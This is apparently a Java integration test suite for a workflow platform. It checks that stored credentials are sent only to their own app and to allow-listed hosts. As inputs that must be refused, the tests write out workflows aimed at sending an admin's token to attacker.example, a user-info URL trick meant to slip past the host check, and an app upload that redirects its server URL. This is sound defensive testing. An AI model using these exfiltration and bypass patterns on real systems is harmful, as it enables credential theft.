package dev.bulwark.workflow.credential.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;

import dev.bulwark.workflow.testing.TestAgent;
import dev.bulwark.workflow.testing.TestAgent.Claimed;
import dev.bulwark.workflow.testing.TestOrg;
import dev.bulwark.workflow.testing.TestWorkflows;
import io.quarkus.test.junit.QuarkusTest;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** Issue 12 item 3: a credential goes only to its own app, and over HTTP only to the hosts it allows. */
@QuarkusTest
class CredentialScopeTest {

    private static final String SECRET = "admin-only-secret-" + UUID.randomUUID();

    private static String httpWorkflow(String credential, String url) {
        return """
                {"name": "Send", "start": "send", "actions": [
                  {"id": "send", "app": "http", "action": "request", "credential": "%s",
                   "parameters": {"method": "GET", "url": "%s"}}]}""".formatted(credential, url);
    }

    private static void adminCreatesRelayCredential(TestOrg org) {
        org.admin().body(Map.of("name", "relay-token", "app", "http",
                        "fields", Map.of("Authorization", "Bearer " + SECRET),
                        "allowedHosts", List.of("relay.example:8084")))
                .when().post("/api/v1/credentials").then().statusCode(201)
                .body("allowedHosts", equalTo(List.of("relay.example:8084")));
    }

    @Test
    void aUserCannotSendAnAdminsCredentialToTheirOwnServer() {
        TestOrg org = TestOrg.create();
        adminCreatesRelayCredential(org);

        // The attack, with the URL written into the workflow: refused on save, naming the hosts.
        org.user().body(httpWorkflow("relay-token", "http://attacker.example/steal"))
                .when().post("/api/v1/workflows").then().statusCode(400)
                .body("errors.field", hasItem("actions[0].parameters.url"))
                .body("errors.message", hasItem("credential 'relay-token' may only be sent to relay.example:8084, "
                        + "not to attacker.example"));
        // Same host, another port: refused too.
        org.user().body(httpWorkflow("relay-token", "http://relay.example:9999/x"))
                .when().post("/api/v1/workflows").then().statusCode(400);
        // User-info tricks do not get past the host check.
        org.user().body(httpWorkflow("relay-token", "http://relay.example:8084@attacker.example/x"))
                .when().post("/api/v1/workflows").then().statusCode(400);

        // The URL arrives at run time: the action fails and no task (so no credential) is handed out.
        UUID workflow = TestWorkflows.save(org, httpWorkflow("relay-token", "$exec.url"));
        UUID execution = TestWorkflows.execute(org, workflow, Map.of("url", "http://attacker.example/steal"));
        org.reader().when().get("/api/v1/executions/{id}", execution).then().statusCode(200)
                .body("results[0].status", equalTo("FAILURE"))
                .body("results[0].error", equalTo("credential 'relay-token' may only be sent to relay.example:8084, "
                        + "not to attacker.example"));
        assertThat(new TestAgent(org).claim(5, 0)).isEmpty();

        // The allowed host gets it.
        TestWorkflows.execute(org, workflow, Map.of("url", "http://relay.example:8084/deliberate/observables"));
        Claimed task = new TestAgent(org).claim(1, 5).get(0);
        assertThat(task.parameters().at("/headers/Authorization").asText()).isEqualTo("Bearer " + SECRET);
    }

    @Test
    void anHttpCredentialNeedsItsHostsAndAnActionUsesOnlyCredentialsOfItsOwnApp() {
        TestOrg org = TestOrg.create();
        org.admin().body(Map.of("name", "no-hosts", "app", "http", "fields", Map.of("X-Key", "value-123456")))
                .when().post("/api/v1/credentials").then().statusCode(400)
                .body("detail", containsString("needs allowedHosts"));
        org.admin().body(Map.of("name", "bad", "app", "http", "fields", Map.of("X-Key", "value-123456"),
                        "allowedHosts", List.of("http://x.example/")))
                .when().post("/api/v1/credentials").then().statusCode(400)
                .body("detail", containsString("not a host allow-list entry"));
        org.admin().body(Map.of("name", "ghost", "app", "nope", "fields", Map.of("X-Key", "value-123456")))
                .when().post("/api/v1/credentials").then().statusCode(400)
                .body("detail", containsString("Unknown app 'nope'"));

        org.admin().contentType("application/yaml").body(petstore("https://pets.example/api", "2.1.0"))
                .when().post("/api/v1/apps/openapi").then().statusCode(201);
        org.admin().body(Map.of("name", "pets", "app", "pet_store", "fields", Map.of("token", SECRET)))
                .when().post("/api/v1/credentials").then().statusCode(201)
                .body("allowedHosts", equalTo(List.of("pets.example")));
        org.user().body(httpWorkflow("pets", "https://pets.example/api/pets/1"))
                .when().post("/api/v1/workflows").then().statusCode(400)
                .body("errors.message", hasItem("credential 'pets' belongs to app 'pet_store', not 'http'"));
    }

    @Test
    void theHandOutChecksTheHostsAgainSoAWorkerNeverReceivesACredentialForAnotherHost() {
        TestOrg org = TestOrg.create();
        adminCreatesRelayCredential(org);
        String id = org.reader().when().get("/api/v1/credentials").then().extract().path("[0].id");
        UUID execution = TestWorkflows.execute(org, TestWorkflows.save(org,
                httpWorkflow("relay-token", "http://relay.example:8084/x")), Map.of());
        // Queued while allowed; the admin narrows the credential before any agent claims the task.
        org.admin().body(Map.of("allowedHosts", List.of("relay2.example"))).when()
                .put("/api/v1/credentials/{id}/allowed-hosts", id).then().statusCode(200)
                .body("allowedHosts", equalTo(List.of("relay2.example")));
        org.user().body(Map.of("allowedHosts", List.of("relay.example"))).when()
                .put("/api/v1/credentials/{id}/allowed-hosts", id).then().statusCode(403);

        assertThat(new TestAgent(org).claim(5, 1)).isEmpty();
        await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
                org.reader().when().get("/api/v1/executions/{id}", execution).then().statusCode(200)
                        .body("status", equalTo("FINISHED"))
                        .body("results[0].status", equalTo("FAILURE"))
                        .body("results[0].error", equalTo("credential 'relay-token' may only be sent to relay2.example, "
                                + "not to relay.example:8084")));
    }

    @Test
    void aUserCannotRedirectAnAdminsAppAndWorkflowsKeepTheVersionTheyWereSavedWith() {
        TestOrg org = TestOrg.create();
        org.admin().contentType("application/yaml").body(petstore("https://pets.example/api", "2.1.0"))
                .when().post("/api/v1/apps/openapi").then().statusCode(201);
        org.admin().body(Map.of("name", "pets", "app", "pet_store", "fields", Map.of("token", SECRET)))
                .when().post("/api/v1/credentials").then().statusCode(201);
        String document = """
                {"name": "Pets", "start": "get", "actions": [
                  {"id": "get", "app": "pet_store", "action": "getPet", "credential": "pets",
                   "parameters": {"petId": "1"}}]}""";
        UUID workflow = UUID.fromString(org.admin().body(document).when().post("/api/v1/workflows")
                .then().statusCode(201).body("actions[0].appVersion", equalTo("2.1.0")).extract().path("id"));

        // The attack: a user uploads a newer version pointing at their own server.
        org.user().contentType("application/yaml").body(petstore("https://attacker.example/api", "2.2.0"))
                .when().post("/api/v1/apps/openapi").then().statusCode(403)
                .body("detail", equalTo("A new version of app 'pet_store' that changes its server URL needs the admin role"));
        // Nor by deleting the admin's app and adding it again while its credentials exist.
        String appId = org.user().when().get("/api/v1/apps").then().extract()
                .path("find { it.name == 'pet_store' }.id");
        org.user().when().delete("/api/v1/apps/{id}", appId).then().statusCode(204);
        org.user().contentType("application/yaml").body(petstore("https://attacker.example/api", "2.2.0"))
                .when().post("/api/v1/apps/openapi").then().statusCode(403)
                .body("detail", containsString("has credentials"));
        org.admin().contentType("application/yaml").body(petstore("https://pets.example/api", "2.1.0"))
                .when().post("/api/v1/apps/openapi").then().statusCode(201);
        // A version that changes nothing about where credentials go is a user's to add.
        org.user().contentType("application/yaml").body(petstore("https://pets.example/api", "2.1.1"))
                .when().post("/api/v1/apps/openapi").then().statusCode(201);
        // An admin may move the app; the saved workflow keeps the version it was saved with.
        org.admin().contentType("application/yaml").body(petstore("https://pets2.example/api", "3.0.0"))
                .when().post("/api/v1/apps/openapi").then().statusCode(201);
        TestWorkflows.execute(org, workflow, Map.of());
        Claimed task = new TestAgent(org).claim(1, 5).get(0);
        assertThat(task.parameters().get("url").asText()).isEqualTo("https://pets.example/api/pets/1");
        assertThat(task.parameters().at("/headers/Authorization").asText()).isEqualTo("Bearer " + SECRET);
        // Saved anew, the workflow pins 3.0.0, whose server the credential does not allow (yet).
        org.user().body(document).when().put("/api/v1/workflows/{id}", workflow).then().statusCode(400)
                .body("errors.message", hasItem("credential 'pets' may only be sent to pets.example, not to pets2.example"));
    }

    private static byte[] petstore(String serverUrl, String version) {
        try (InputStream in = CredentialScopeTest.class.getResourceAsStream("/apps/petstore.yaml")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8)
                    .replace("https://pets.example/api", serverUrl)
                    .replace("version: 2.1.0", "version: " + version)
                    .getBytes(StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }
}
